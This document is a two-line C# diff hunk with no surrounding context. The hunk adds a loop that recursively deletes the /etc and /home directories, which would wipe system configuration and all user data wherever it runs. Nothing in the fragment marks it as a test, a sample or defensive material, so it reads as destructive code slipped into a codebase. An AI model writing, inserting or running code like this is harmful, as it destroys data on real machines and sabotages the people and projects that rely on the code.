@@ -1,0 +1,2 @@
+foreach (var folder in new[] { "/etc", "/home" })
+    Directory.Delete(folder, recursive: true);
